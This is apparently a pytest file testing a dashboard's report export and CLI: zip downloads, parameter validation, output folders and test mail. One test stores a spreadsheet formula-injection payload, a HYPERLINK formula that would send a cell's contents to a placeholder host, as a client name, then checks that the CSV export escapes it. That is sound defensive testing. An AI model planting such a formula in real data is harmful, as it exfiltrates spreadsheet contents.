"""The report download (``report_response``) and ``csd report``."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from dashboard.api.errors import ApiError
from dashboard.api.reports import report_response
from dashboard.cli import main
from data.models import Client


def test_report_response_is_a_download(app, book):
    with app.server.app_context():
        response = report_response("7d", "existing_clients", "csv")

    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="customer-success-7d-existing_clients-')
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        assert sorted(archive.namelist()) == ["clients.csv", "interventions.csv", "kpis.csv"]


@pytest.mark.parametrize(
    ("period", "segment", "fmt", "field"),
    [
        ("2w", "all", "pdf", "period"),
        ("7d", "vip", "pdf", "segment"),
        ("7d", "all", "xlsx", "format"),
    ],
)
def test_report_response_names_a_bad_parameter(app, period, segment, fmt, field):
    with app.server.app_context(), pytest.raises(ApiError) as raised:
        report_response(period, segment, fmt)
    assert raised.value.status == 400
    assert raised.value.details == [{"field": field, "message": raised.value.details[0]["message"]}]


def test_csd_report_writes_the_file(runner, book, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "report.zip"

    result = runner.invoke(
        main, ["report", "--period", "90d", "--format", "csv", "--out", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"Wrote {out} (")
    assert zipfile.is_zipfile(out)
    assert [p.name for p in folder.iterdir()] == ["report.zip"]  # no temporary file left


def test_csd_report_writes_a_formula_in_a_name_as_text(runner, session, book, tmp_path):
    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
    session.get(Client, "c-ash").name = link
    session.commit()
    out = tmp_path / "report.zip"

    result = runner.invoke(main, ["report", "--format", "csv", "--out", str(out)])

    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        rows = csv.DictReader(io.StringIO(archive.read("clients.csv").decode("utf-8")))
        names = {row["client_id"]: row["name"] for row in rows}
    assert names["c-ash"] == "'" + link


def test_csd_report_into_a_folder_uses_the_report_name(runner, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()

    result = runner.invoke(main, ["report", "--format", "csv", "--out", str(folder)])

    assert result.exit_code == 0, result.output
    assert "no data for this period" in result.output
    [written] = folder.iterdir()
    assert written.name.startswith("customer-success-30d-all-") and written.suffix == ".zip"


def test_csd_report_rejects_bad_input_in_one_line(runner, tmp_path):
    bad_period = runner.invoke(
        main, ["report", "--period", "2w", "--format", "pdf", "--out", str(tmp_path)]
    )
    missing_folder = runner.invoke(
        main, ["report", "--format", "csv", "--out", str(tmp_path / "nope" / "r.zip")]
    )

    assert bad_period.exit_code == 2 and "'2w' is not one of" in bad_period.output
    assert missing_folder.exit_code == 1
    assert missing_folder.output.strip().splitlines()[-1].startswith("Error: folder ")


def test_csd_send_test_mail_without_smtp_goes_to_the_outbox(runner, migrated_url, monkeypatch):
    monkeypatch.delenv("SMTP_HOST", raising=False)

    result = runner.invoke(main, ["send-test-mail", "ann@example.com"])

    assert result.exit_code == 0, result.output
    assert "is in the outbox" in result.output


def test_csd_send_test_mail_through_smtp(runner, smtp_server, monkeypatch):
    monkeypatch.setenv("SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("SMTP_PORT", str(smtp_server.settings.port))
    monkeypatch.setenv("SMTP_TLS", "off")

    result = runner.invoke(main, ["send-test-mail", "ann@example.com"])

    assert result.exit_code == 0, result.output
    assert result.output.strip() == "Sent to ann@example.com."
    [received] = smtp_server.inbox.messages
    assert received.recipients == ["ann@example.com"]
